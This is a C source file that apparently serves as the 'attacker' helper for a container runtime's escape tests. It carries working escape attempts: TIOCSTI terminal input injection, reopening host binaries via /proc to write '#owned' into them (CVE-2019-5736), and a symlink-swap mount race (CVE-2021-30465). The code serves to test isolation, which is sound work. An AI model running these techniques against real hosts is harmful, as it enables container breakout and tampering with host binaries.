/* The attacker of fuse-tests/escape.rs: a static program put into a hostile image, which
 * tries one way out of its container and prints what it got, one "<what> <result>" line
 * each. The tests decide from the host whether it got out. Never run it on the host.
 *
 *   tiocsti TEXT          push TEXT into the input of every terminal it can reach
 *   fds                   its descriptors and working directory, as the first thing it does
 *   exe-watch SECONDS     watch /proc for processes whose binary is not the container's and
 *                         try to keep a handle on it and write to it (CVE-2019-5736)
 *   swap PATH TARGET SECONDS
 *                         flip PATH between a directory and a symlink to TARGET as fast as
 *                         it can (the mount-target races, CVE-2021-30465)
 *   write PATH TEXT       write TEXT into PATH
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static const char *err(int r) { return r < 0 ? strerrorname_np(errno) : "ok"; }

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int tiocsti(int fd, const char *text) {
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0)
            return -1;
    return 0;
}

static int cmd_tiocsti(const char *text) {
    for (int fd = 0; fd < 3; fd++) {
        int r = tiocsti(fd, text);
        printf("tiocsti fd%d %s\n", fd, err(r));
    }
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    printf("tiocsti open-dev-tty %s\n", err(tty));
    if (tty >= 0)
        printf("tiocsti dev-tty %s\n", err(tiocsti(tty, text)));
    return 0;
}

static int cmd_fds(void) {
    char link[4096], path[300];
    ssize_t n = readlink("/proc/self/cwd", link, sizeof link - 1);
    link[n < 0 ? 0 : n] = 0;
    printf("cwd %s\n", n < 0 ? strerrorname_np(errno) : link);
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return 1;
    int own = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || atoi(e->d_name) == own)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        n = readlink(path, link, sizeof link - 1);
        link[n < 0 ? 0 : n] = 0;
        printf("fd %s %s\n", e->d_name, link);
    }
    closedir(d);
    return 0;
}

#define MAX_HANDLES 256

/* Keeps an O_PATH handle on the binary of every other process it sees; a binary from
 * outside the container's filesystem (another device than /) is what it is after, and it
 * counts those that are a sealed memfd or on a read-only mount apart. Then,
 * again and again, tries to reopen each such handle for writing (a running binary refuses
 * that with ETXTBSY; once its process ends, an unsealed host file would not). */
static int cmd_exe_watch(double seconds) {
    struct stat root;
    if (stat("/", &root) < 0)
        return 1;
    int handles[MAX_HANDLES], n = 0, outside = 0, sealed = 0, readonly = 0, written = 0,
        denied = 0;
    dev_t devs[MAX_HANDLES];
    ino_t inos[MAX_HANDLES];
    pid_t self = getpid();
    double end = now() + seconds;
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    denied++;
                continue;
            }
            struct stat st;
            int seen = 0;
            if (fstat(fd, &st) < 0 || st.st_dev == root.st_dev)
                seen = 1;
            for (int i = 0; i < n && !seen; i++)
                seen = devs[i] == st.st_dev && inos[i] == st.st_ino;
            if (seen || n == MAX_HANDLES) {
                close(fd);
                continue;
            }
            devs[n] = st.st_dev;
            inos[n] = st.st_ino;
            handles[n++] = fd;
            char self_path[64];
            snprintf(self_path, sizeof self_path, "/proc/self/fd/%d", fd);
            int r = open(self_path, O_RDONLY | O_CLOEXEC);
            struct statvfs vfs;
            if (r >= 0 && fcntl(r, F_GET_SEALS) >= 0 && (fcntl(r, F_GET_SEALS) & F_SEAL_WRITE))
                sealed++;
            else if (fstatvfs(fd, &vfs) == 0 && (vfs.f_flag & ST_RDONLY))
                readonly++;
            else
                outside++;
            if (r >= 0)
                close(r);
        }
        if (d)
            closedir(d);
        for (int i = 0; i < n; i++) {
            if (handles[i] < 0)
                continue;
            char self_path[64];
            snprintf(self_path, sizeof self_path, "/proc/self/fd/%d", handles[i]);
            int w = open(self_path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w < 0)
                continue;
            if (write(w, "#owned\n", 7) == 7)
                written++;
            close(w);
            close(handles[i]);
            handles[i] = -1;
        }
    }
    printf("exe-outside %d\nexe-sealed %d\nexe-readonly %d\nexe-written %d\nexe-denied %d\n",
           outside, sealed, readonly, written, denied);
    return 0;
}

static int cmd_swap(const char *path, const char *target, double seconds) {
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.link", path);
    unlink(tmp);
    if (symlink(target, tmp) < 0)
        return 1;
    mkdir(path, 0755);
    long swaps = 0;
    double end = now() + seconds;
    while (now() < end) {
        /* The directory and the link trade places atomically, and back. */
        if (renameat2(AT_FDCWD, tmp, AT_FDCWD, path, RENAME_EXCHANGE) == 0)
            swaps++;
    }
    printf("swap %ld\n", swaps);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 3 && !strcmp(argv[1], "tiocsti"))
        return cmd_tiocsti(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "fds"))
        return cmd_fds();
    if (argc >= 3 && !strcmp(argv[1], "exe-watch"))
        return cmd_exe_watch(atof(argv[2]));
    if (argc >= 5 && !strcmp(argv[1], "swap"))
        return cmd_swap(argv[2], argv[3], atof(argv[4]));
    if (argc >= 4 && !strcmp(argv[1], "write")) {
        int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        int r = fd < 0 ? -1 : (int)write(fd, argv[3], strlen(argv[3]));
        printf("write %s\n", err(r));
        return 0;
    }
    fprintf(stderr, "attacker: unknown command\n");
    return 2;
}
